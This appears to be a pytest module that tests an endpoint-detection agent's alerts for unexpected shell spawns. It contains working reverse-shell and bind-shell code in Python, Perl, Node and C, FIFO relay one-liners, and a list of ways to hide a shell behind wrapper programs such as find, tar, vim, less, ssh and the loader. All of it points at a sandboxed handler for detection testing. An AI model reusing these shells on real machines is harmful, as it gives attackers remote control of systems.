"""Shells for other machines, and shells behind a word in front: harmless imitations.

Everything is typed into a login shell that was there before the agent; each scenario is a session
of its own. The other machine is an address of ours in a network of our own, and is not loopback; it
answers every connection with ``exit``.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import msgspec
import pytest

from tests.kernel.endpoint import Endpoint, Line, endpoint
from tests.kernel.hour import Hour
from tests.kernel.workload import ADDRESS, Island, copy_as

HANDLER = """
import socket, sys
server = socket.create_server((sys.argv[1], 0))
print(server.getsockname()[1], flush=True)
while True:
    visitor, _ = server.accept()
    visitor.settimeout(10)
    try:
        visitor.sendall(b"echo here\\nexit\\nexit\\n")
        while visitor.recv(4096):
            pass
    except OSError:
        pass
    visitor.close()
"""
BY_DUP2 = """
import os, socket, subprocess, sys
link = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for number in range(3):
    os.dup2(link.fileno(), number)
subprocess.call(sys.argv[3:])
"""
BY_TERMINAL = """
import pty, socket, sys
link = socket.create_connection((sys.argv[1], int(sys.argv[2])))
child, master = pty.fork()
if not child:
    import os
    os.execv("/bin/sh", ["sh", "-i"])
import os
os.write(master, link.recv(100))
try:
    while os.read(master, 1000):
        pass
except OSError:
    pass
os.waitpid(child, 0)
"""
BY_PIPES = """
import socket, subprocess, sys
link = socket.create_connection((sys.argv[1], int(sys.argv[2])))
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
link.sendall(shell.communicate(link.recv(100))[0])
"""
RELAY = """
import os, socket, sys
address = (sys.argv[1], int(sys.argv[2]))
if "listen" in sys.argv:
    server = socket.create_server(address)
    with socket.create_connection(address) as visitor:
        link, _ = server.accept()
        visitor.sendall(b"exit\\n")
        os.write(1, link.recv(100))
else:
    link = socket.create_connection(address)
    os.write(1, link.recv(100))
while os.read(0, 1000):
    pass
"""
BIND = """
import os, socket, subprocess, sys
server = socket.create_server((sys.argv[1], 0))
visitor = socket.create_connection(server.getsockname())
visitor.sendall(b"exit\\n")
link, _ = server.accept()
subprocess.call(sys.argv[2:], stdin=link, stdout=link, stderr=link)
"""
IMPLANT = """
import socket, subprocess, sys
link = socket.create_connection((sys.argv[1], int(sys.argv[2])))
subprocess.run("id", shell=True, stdout=subprocess.DEVNULL)
"""
LOOPBACK = """
import socket, subprocess
server = socket.create_server(("127.0.0.1", 0))
visitor = socket.create_connection(server.getsockname())
subprocess.run("id | cat", shell=True, stdout=subprocess.DEVNULL)
"""
PERL = """
use Socket;
socket(LINK, PF_INET, SOCK_STREAM, 6);
connect(LINK, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die;
open(STDIN, "<&LINK"); open(STDOUT, ">&LINK"); open(STDERR, ">&LINK");
system("/bin/sh", "-i");
"""
NODE = """
const [host, port] = process.argv.slice(2);
const link = require("net").connect(+port, host, () => {
  const shell = require("child_process").spawn("/bin/sh", []);
  link.pipe(shell.stdin); shell.stdout.pipe(link); shell.on("exit", () => process.exit(0));
});
"""
C_CLIENT = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (void *)&to, sizeof to)) return 1;
  for (int i = 0; i < 3; i++) dup2(fd, i);
  execv(argv[3], argv + 3);
  return 127;
}
"""
PY = "/usr/bin/python3 -S -E"
FILES = {
    "dup2.py": BY_DUP2,
    "terminal.py": BY_TERMINAL,
    "pipes.py": BY_PIPES,
    "relay.py": RELAY,
    "bind.py": BIND,
    "implant.py": IMPLANT,
    "loopback.py": LOOPBACK,
    "dup2.pl": PERL,
    "link.js": NODE,
}
LOUD = {
    "a python file": f"{PY} dup2.py $TO /bin/sh -i",
    "a python file by env": f"{PY} dup2.py $TO /usr/bin/env sh",
    "a python file by the loader": f"{PY} dup2.py $TO $LOADER /bin/dash",
    "a python file and a renamed shell": f"{PY} dup2.py $TO $PWD/renamed",
    "a python file with a terminal": f"{PY} terminal.py $TO",
    "a python file with pipes": f"{PY} pipes.py $TO",
    "a perl file": "/usr/bin/perl dup2.pl $TO",
    "a node file": "/usr/bin/node link.js $TO",
    "a C program": "./client $TO /bin/sh",
    "a C program and a renamed shell": "./client $TO $PWD/renamed",
    "a fifo and a relay": f"mkfifo f; sh -i < f 2>&1 | {PY} relay.py $TO > f",
    "a fifo, cat and a relay": f"mkfifo f; cat f | sh 2>&1 | {PY} relay.py $TO > f",
    "a fifo and a listening relay": f"mkfifo f; cat f | sh | {PY} relay.py $HERE 4321 listen > f",
    "a bind shell": f"{PY} bind.py $HERE /bin/sh",
    "a bind shell by env": f"{PY} bind.py $HERE /usr/bin/env sh",
    "an implant": f"{PY} implant.py $TO",
}
QUIET = {
    "words in front": "env bash -c :; timeout 5 sh -c :; setsid -w sh -c :;"
    " echo x | xargs sh -c : -; exit 0",
    "a build": "printf 'all:\\n\\t@true | cat; env sh -c :\\n' > Makefile; make -s; exit 0",
    "scripts": "mkdir p; printf '#!/usr/bin/env bash\\nsh -c :\\n' > p/a; chmod +x p/a;"
    " run-parts p; p/a",
    "git": "git init -q r; cd r; printf '#!/bin/sh\\n:\\n' > .git/hooks/pre-commit;"
    " chmod +x .git/hooks/pre-commit; git -c user.name=a -c user.email=a@b -c alias.x='!:'"
    " commit -q --allow-empty -m x; git -c alias.x='!:' x",
    "a server on loopback": f"{PY} loopback.py; exit 0",
    "a pipe into a shell": "echo true | sh -s | cat; exit 0",
}
WORDS = {
    "env": "/usr/bin/env sh -c :",
    "timeout": "/usr/bin/timeout 5 sh -c :",
    "setsid": "/usr/bin/setsid -w sh -c :",
    "xargs": "/usr/bin/xargs sh -c :",
    "find": "/usr/bin/find /etc/hostname -exec sh -c : ;",
    "stdbuf": "/usr/bin/stdbuf -o0 sh -c :",
    "nice": "/usr/bin/nice sh -c :",
    "script": "/usr/bin/script -qc : /dev/null",
    "start-stop-daemon": "/usr/sbin/start-stop-daemon --start --pidfile /no --exec /bin/sh -- -c :",
    "make": "/usr/bin/make -s -f FOLDER/Makefile",
    "tar": "/usr/bin/tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=: /etc/hostname",
    "vim": "/usr/bin/vim -es -u NONE -c !: -c q!",
    "git": "/usr/bin/git -c alias.x=!:;: x",
    "less": "/usr/bin/env LESSOPEN=|cat%s less /etc/hostname",
    "ssh": "/usr/bin/ssh -oProxyCommand=: -oBatchMode=yes nowhere",
    "awk": '/usr/bin/awk BEGIN{system(\\":\\")}',
    "python3": "/usr/bin/python3 FOLDER/shell.py",
    "perl": "/usr/bin/perl FOLDER/shell.pl",
    "node": "/usr/bin/node FOLDER/shell.js",
    "a script with env": "FOLDER/script",
    "the loader": "LOADER /bin/bash -c :",
}
LOADER = "/lib64/ld-linux-x86-64.so.2"
T1059 = "T1059 [Unexpected shell spawn]"


class Scenes(msgspec.Struct):
    """A login shell of before, an agent as shipped, and a network."""

    hour: Hour
    watched: Endpoint
    to: str
    enter: str

    def alerts(self, name: str, script: str, *, prepare: str = "") -> list[Line]:
        """Play a script in a session of its own; what was said of its processes."""
        home = self.hour.home
        folder = home / name.replace(" ", "-").replace(",", "")
        shutil.copytree(home / "files", folder)
        scene = folder / "scene.sh"
        scene.write_text(f"TO='{self.to}' HERE={ADDRESS} LOADER={LOADER}\n{prepare}\n{script}\n")
        session = f"/usr/sbin/runuser -u root -- {self.enter} bash {shlex.quote(str(scene))}"
        self.hour.do(name, f"cd {shlex.quote(str(folder))}\n{session} || true")
        self.watched.settle()
        assert self.watched.recording is not None
        owners = self.hour.owners(self.watched.recording.refresh())
        mine = {process for process, owner in owners.items() if owner == name}
        return [a for a in list(self.watched.alerts) if (a["pid"], a["start_ns"]) in mine]


@pytest.fixture(scope="module")
def scenes(
    net: Island, tmp_path_factory: pytest.TempPathFactory, build: Callable[[str], Path], doer: Path
) -> Iterator[Scenes]:
    home = tmp_path_factory.mktemp("lineage")
    files = home / "files"
    files.mkdir()
    for name, text in FILES.items():
        (files / name).write_text(text)
    copy_as(build(C_CLIENT), files, "client")
    copy_as(Path("/usr/bin/dash"), files, "renamed")
    copy_as(doer, files, "foothold")
    (files / "shell.py").write_text("import os; os.system(':')")
    (files / "shell.pl").write_text("system('true;');")
    (files / "shell.js").write_text("require('child_process').execSync(':')")
    (files / "Makefile").write_text("all:\n\t@: | :\n")
    (files / "script").write_text("#!/usr/bin/env bash\n:\n")
    (files / "script").chmod(0o755)
    handler = subprocess.Popen(
        [*net.enter, "/usr/bin/python3", "-c", HANDLER, ADDRESS],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert handler.stdout is not None
    hour = Hour(home)
    try:
        to = f"{ADDRESS} {int(handler.stdout.readline())}"
        with endpoint(record=home / "recording") as watched:
            yield Scenes(hour, watched, to, shlex.join(net.enter))
            assert watched.stop() == 0
    finally:
        hour.close()
        handler.kill()
        handler.communicate()


@pytest.mark.parametrize("name", LOUD)
def test_a_shell_for_another_machine_is_an_alert_of_level_high(scenes: Scenes, name: str) -> None:
    if "node" in name and not Path("/usr/bin/node").exists():
        pytest.skip("no node here")
    alerts = scenes.alerts(name, LOUD[name])
    assert [a for a in alerts if a["level"] in {"high", "critical"}], alerts


def test_each_of_the_rules_has_its_part_in_it(scenes: Scenes) -> None:
    """After all of the above: none of them is there in vain."""
    said = {alert["rule_id"] for alert in list(scenes.watched.alerts)}
    assert said >= {
        *("shell-on-socket", "shell-behind-connection", "shell-of-listener"),
        *("commands-from-outside", "shell-relay", "shell-loop"),
    }


@pytest.mark.parametrize("name", WORDS)
def test_a_word_in_front_does_not_hide_a_shell(scenes: Scenes, name: str) -> None:
    words = shlex.split(WORDS[name].replace("LOADER", LOADER).replace("FOLDER", "."))
    program = words[0]
    if program.startswith("/usr/bin/") and not Path(program).exists():
        pytest.skip(f"no {program} here")
    alerts = scenes.alerts(f"word {name}", f"./foothold run {shlex.join(words)} + < /dev/null")
    said = [a["detail"] for a in alerts if a["rule"] == T1059]
    assert any("/foothold started the shell" in detail for detail in said), alerts


@pytest.mark.parametrize("name", QUIET)
def test_the_same_by_daily_work_is_nothing(scenes: Scenes, name: str) -> None:
    alerts = scenes.alerts(f"quiet {name}", QUIET[name])
    assert not [a for a in alerts if a["rule"] == T1059 or a["level"] in {"high", "critical"}]
